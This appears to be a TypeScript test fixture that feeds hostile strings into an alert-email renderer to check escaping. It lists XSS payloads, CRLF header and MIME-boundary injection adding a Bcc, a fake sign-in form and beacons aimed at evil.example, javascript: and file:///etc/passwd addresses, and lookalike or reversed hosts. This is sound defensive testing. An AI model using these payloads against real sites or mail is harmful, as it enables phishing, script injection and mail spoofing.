/** What a file, or whoever writes to the API, might put into a mail or a page to break out of its place. */
import type { ChangedVideo, ClipCard, ClipHead, Content, DigestName, Reader } from '../../../shared/alert/content.ts';
import type { Check } from '../../../shared/contract/clip.ts';
import type { Language } from '../../../shared/contract/subscription.ts';

/** Every text is escaped or left out; `why` says what it would do. */
export interface Hostile {
  readonly why: string;
  readonly text: string;
}

const NUL = '\u0000';
const ZWSP = '\u200b';

export const HOSTILE_TEXTS: readonly Hostile[] = [
  { why: 'a script', text: '<script>alert(1)</script>' },
  { why: 'a script in an image that cannot load', text: '<img src=x onerror=alert(1)>' },
  { why: 'a script in a drawing, out of a quoted attribute', text: '"><svg/onload=alert(1)>' },
  { why: 'a script out of an attribute in single quotes', text: "' onmouseover='alert(1)' style='position:fixed" },
  { why: 'the end of a style sheet, then a script', text: '</style><script>alert(1)</script>' },
  {
    why: 'the end of every element that a mail may be in',
    text: '</title></style></p></td></tr></table></div></body>',
  },
  { why: 'rules that hide the mail', text: '<style>*{display:none!important}</style>' },
  { why: 'a rule that asks another host', text: '<div style="background:url(https://evil.example/seen)">' },
  { why: 'a frame over everything', text: '<iframe src="https://evil.example/" style="position:fixed;inset:0">' },
  { why: 'a form', text: '<form action="https://evil.example/"><input name=password><button>Sign in</button></form>' },
  { why: 'another page after a moment', text: '<meta http-equiv="refresh" content="0;url=https://evil.example/">' },
  { why: 'another base for every link', text: '<base href="https://evil.example/">' },
  { why: 'a sheet from elsewhere', text: '<link rel=stylesheet href="https://evil.example/x.css">' },
  { why: 'a comment without an end', text: '<!--' },
  { why: 'the end of a comment for Outlook', text: '--><![endif]--><script>alert(1)</script><!--[if mso]>' },
  { why: 'a CDATA section', text: '<![CDATA[<script>alert(1)</script>]]>' },
  { why: 'markup that is escaped already', text: '&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;b&#62;' },
  { why: 'templates', text: '{{constructor.constructor("alert(1)")()}} #{alert(1)} <%= alert(1) %>' },
  { why: 'another header of the mail', text: 'A title\r\nBcc: victim@evil.example\r\nX-Evil: yes' },
  { why: 'the end of the headers', text: 'A title\r\n\r\n<script>alert(1)</script>' },
  { why: 'a line end of Unicode in a header', text: 'A title\u2028Bcc: victim@evil.example\u0085X-Evil: yes' },
  { why: 'an encoded word that holds a header', text: '=?utf-8?Q?=0D=0ABcc:_victim@evil.example?=' },
  { why: 'a boundary of the parts', text: '\r\n----_NmP-0\r\nContent-Type: text/html\r\n\r\n<b>mine</b>' },
  { why: 'NUL and other controls', text: `A${NUL}title\u0007 with\u001b[31m controls\u007f\u009b` },
  { why: 'words turned round', text: 'A title \u202egnp.exe\u202c and \u2066isolates \u2067without an end' },
  { why: 'marks of direction', text: '\u200fA title\u200e \u061cwith marks' },
  { why: 'letters without width', text: `cl${ZWSP}ip\u200d wa\u2060tch\ufeff` },
  { why: 'letters of both directions', text: 'رندة Kassis قسيس: "TV" (الميادين) 2017 – Strategic تحوّل!' },
  { why: 'emoji of many parts', text: '👩‍👩‍👧‍👦🏳️‍🌈🇸🇾'.repeat(60) },
  { why: 'a tower of accents', text: `Z${'\u0351\u0310\u0323'.repeat(300)}algo` },
  { why: 'halves of letters', text: 'A\ud800 title\udfff' },
  { why: '10,000 letters without a space', text: 'W'.repeat(10_000) },
  { why: '10,000 Arabic letters without a space', text: 'ش'.repeat(10_000) },
  { why: '10,000 words', text: 'word '.repeat(10_000) },
  { why: 'a long address as a title', text: `https://evil.example/${'a%20'.repeat(2000)}` },
  { why: 'nothing that is seen', text: ' \u00a0\u200b\u3164 ' },
];

/** Addresses that a file may give for a video or for itself; a contract lets only http and https through. */
export const HOSTILE_ADDRESSES: readonly { readonly why: string; readonly address: string }[] = [
  { why: 'a script', address: 'javascript:alert(1)' },
  { why: 'a script in other letters', address: 'JaVaScRiPt:alert(1)' },
  { why: 'a script with a tab', address: 'java\tscript:alert(1)' },
  { why: 'a script after a space', address: ' javascript:alert(1)' },
  { why: 'a page in itself', address: 'data:text/html,<script>alert(1)</script>' },
  { why: 'a script of old programs', address: 'vbscript:msgbox(1)' },
  { why: 'a file', address: 'file:///etc/passwd' },
  { why: 'out of the attribute', address: 'https://evil.example/" onmouseover="alert(1)' },
  { why: 'out of the link', address: 'https://evil.example/</a><script>alert(1)</script>' },
  { why: 'a host that looks like another', address: 'https://аррӏе.com/video' },
  { why: 'a host behind a user name', address: 'https://www.youtube.com@evil.example/watch' },
  { why: 'a host turned round', address: 'https://evil.example/\u202emoc.ebutuoy' },
  { why: 'a line end', address: 'https://evil.example/\r\nBcc: victim@evil.example' },
  { why: 'no address', address: 'nothing' },
  { why: 'a host alone', address: '//evil.example/video' },
  { why: 'very long', address: `https://evil.example/${'x'.repeat(8000)}` },
];

const CHECKED_AT = '2026-11-24T09:00:00.000Z';

function checkOf(text: string): Check {
  return {
    status: 'restricted',
    reason: text,
    seen: { httpStatus: 403, finalUrl: null, title: text, tookMs: 1, uploader: text },
    checkedAt: CHECKED_AT,
    nextCheckAt: null,
  };
}

const RECORD = 'https://api.example.org/clips/0123456789abcdef0123456789abcdef?key=abc';

function headOf(text: string): ClipHead {
  return {
    clipId: '0123456789abcdef0123456789abcdef',
    title: text,
    outlet: text,
    publishedOn: '2026-11-23',
    language: 'en',
    link: RECORD,
  };
}

function cardOf(text: string, address: string): ClipCard {
  return {
    ...headOf(text),
    original: address,
    receivedAt: CHECKED_AT,
    mentions: [
      {
        nameId: 'randa-kassis',
        name: text,
        count: 2,
        inTitle: true,
        snippet: text,
        marks: [{ start: 0, end: Math.min(6, text.length) }],
        spans: [
          { form: text, alias: text, variant: 'exact' },
          { form: `${text}!`, alias: text, variant: 'clitic' },
        ],
        narrow: 'https://api.example.org/names/randa-kassis?key=abc',
      },
    ],
    videos: [
      { provider: text, url: address, check: checkOf(text), still: null },
      {
        provider: 'bunny',
        url: address,
        check: { ...checkOf(text), status: 'gone' },
        still: { link: 'https://api.example.org/stills/1/2?key=abc', keptAt: CHECKED_AT },
      },
    ],
    sameStory: { clips: 2, outlets: [text, `${text}?`] },
  };
}

/** A text for every place of a clip that a file or a user of the API can fill, and an address for its videos and itself. */
export interface HostileClip {
  readonly text: string;
  readonly address: string;
}

/** One of each kind of mail about these clips; what stands once in a mail has the first one's text. */
export function hostileContents(clips: readonly HostileClip[]): Content[] {
  const text = clips[0]?.text ?? '';
  const cards = clips.map((clip, i) => ({ ...cardOf(clip.text, clip.address), clipId: String(i).padStart(32, '0') }));
  const names = clips.map(
    (clip, i): DigestName => ({
      name: clip.text,
      isUrgent: i === 0,
      mentions: 3,
      published: 1,
      before: 1,
      days: [0, 1, 0, 0, 2, 0, 3],
      lastMention: '2026-11-20',
      cards: cards.slice(i, i + 1),
      all: 'https://api.example.org/names/randa-kassis',
    }),
  );
  const digest = {
    kind: 'digest',
    from: '2026-11-23T06:00:00.000Z',
    to: '2026-11-24T06:00:00.000Z',
    nextAt: '2026-11-25T06:00:00.000Z',
    refused: 2,
    usual: 200,
    followed: 4,
    archive: { gone: 1, back: 2 },
  } as const;
  const videos = clips.flatMap((clip): ChangedVideo[] => {
    const video = {
      ...headOf(clip.text),
      provider: clip.text,
      seenAt: [CHECKED_AT, '2026-11-24T10:30:00.000Z'],
      playedAt: '2026-11-20T10:30:00.000Z',
      isStillKept: true,
    };
    return [
      { ...video, transition: 'gone' },
      { ...video, transition: 'back' },
    ];
  });
  return [
    { kind: 'alert', clips: cards },
    { kind: 'alert', clips: [...cards, ...cards.map((card) => ({ ...card, clipId: 'f'.repeat(32) }))] },
    {
      kind: 'summary',
      because: 'flood',
      names: clips.map((clip) => ({ name: clip.text, clips: 500 })),
      clips: 500,
      isMore: true,
      outlets: [
        { outlet: text, clips: 400 },
        { outlet: null, clips: 100 },
      ],
      cards: Array.from({ length: 5 }, () => cards).flat(),
      all: 'https://api.example.org/clips',
    },
    { ...digest, cadence: 'daily', arrived: 214, names },
    { ...digest, cadence: 'weekly', arrived: 0, names: names.map((name) => ({ ...name, mentions: 0, cards: [] })) },
    { kind: 'videos', videos },
    {
      kind: 'correction',
      clip: headOf(text),
      toldAt: CHECKED_AT,
      changes: [
        { field: 'title', was: text, is: `${text}.` },
        { field: 'outlet', was: text, is: null },
        { field: 'publishedOn', was: '2026-11-22', is: '2026-11-23' },
      ],
      names: clips.flatMap((clip) => [
        { name: clip.text, isIn: true },
        { name: clip.text, isIn: false },
      ]),
    },
    {
      kind: 'confirm',
      cadence: 'weekly',
      hour: 7,
      weekday: 'monday',
      elsewhere: { kind: 'webhook', host: 'hooks.example.org' },
      link: 'https://api.example.org/confirm?key=abc',
      until: '2026-12-01T06:00:00.000Z',
    },
  ];
}

/** A reader who follows names with these texts. */
export function hostileReader(texts: readonly string[], language: Language): Reader {
  return {
    address: 'press@example.org',
    language,
    timeZone: 'Europe/Paris',
    follows: texts,
    links: {
      unsubscribe: 'https://api.example.org/unsubscribe?key=abc',
      names: texts.map((name) => ({ name, link: 'https://api.example.org/unsubscribe?key=def' })),
      stop: {
        videos: 'https://api.example.org/unsubscribe?key=v',
        corrections: 'https://api.example.org/unsubscribe?key=c',
        all: 'https://api.example.org/unsubscribe?key=a',
      },
      settings: 'https://api.example.org/settings',
    },
  };
}
